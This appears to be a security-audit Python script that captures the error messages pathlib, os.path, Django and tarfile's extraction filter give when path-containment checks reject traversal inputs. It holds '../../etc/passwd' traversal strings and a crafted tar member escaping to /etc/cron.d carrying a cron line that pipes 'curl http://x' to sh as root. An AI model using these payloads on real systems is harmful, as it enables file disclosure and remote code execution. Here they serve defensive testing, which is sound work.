"""Path-containment errors from Python's stdlib and Django, run as a server would call them.
Run: /tmp/hv/bin/python py_path.py -> out/py_path.json"""
import io, json, os, pathlib, tarfile, tempfile, traceback

out = {}
ROOT = pathlib.Path("/srv/mcp/workspace")

# pathlib: resolve then relative_to (Python 3.11 wording)
req = "twaudit-8b21d4f0/../../../../../../../etc/passwd"
try:
    (ROOT / req).resolve().relative_to(ROOT)
except ValueError as e:
    out["pathlib_relative_to"] = str(e)

# pathlib with a symlinked directory inside the root that points elsewhere
import shutil
shutil.rmtree("/tmp/mcp-notes", ignore_errors=True)
if True:
    d = "/tmp/mcp-notes"
    root = pathlib.Path(d) / "ws"; root.mkdir(parents=True)
    (root / "shared").symlink_to("/var/lib")
    try:
        (root / "shared" / "dpkg" / "status").resolve().relative_to(root.resolve())
    except ValueError as e:
        out["pathlib_symlink"] = str(e)

# os.path.commonpath check
abs_req = os.path.realpath(os.path.join("/var/lib/mcp/uploads", "twaudit-71c0e5aa/../../../../../../../etc/passwd"))
out["commonpath_real"] = abs_req
out["commonpath_ok"] = str(os.path.commonpath([abs_req, "/var/lib/mcp/uploads"]) == "/var/lib/mcp/uploads")

# Django
import django
from django.conf import settings
settings.configure()
from django.utils._os import safe_join
from django.core.files.utils import validate_file_name
from django.core.exceptions import SuspiciousFileOperation
try:
    safe_join("/srv/app/media", "twaudit-0d3b9f62/../../../../../../../etc/passwd")
except SuspiciousFileOperation as e:
    out["django_safe_join"] = f"{type(e).__name__}: {e}"
try:
    validate_file_name("twaudit-c4e7a912/../../../../../../../etc/passwd", allow_relative_path=True)
except SuspiciousFileOperation as e:
    out["django_validate_file_name"] = str(e)

# tarfile extraction filter (3.11.4+): an uploaded bundle with a member climbing out
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as tf:
    data = b"* * * * * root curl http://x | sh\n"
    ti = tarfile.TarInfo("site/../../../../../etc/cron.d/refresh"); ti.size = len(data)
    tf.addfile(ti, io.BytesIO(data))
buf.seek(0)
if True:
    shutil.rmtree("/tmp/mcp-deploy", ignore_errors=True)
    dest = "/tmp/mcp-deploy/bundles/b-20240611"
    os.makedirs(dest)
    try:
        with tarfile.open(fileobj=buf, mode="r:gz") as tf:
            tf.extractall(dest, filter="data")
    except tarfile.FilterError as e:
        msg = f"{type(e).__module__}.{type(e).__name__}: {e}"
        out["tarfile_outside"] = msg

json.dump(out, open("out/py_path.json", "w"), indent=1)
print("\n=====\n".join(f"[{k}]\n{v}" for k, v in out.items()))
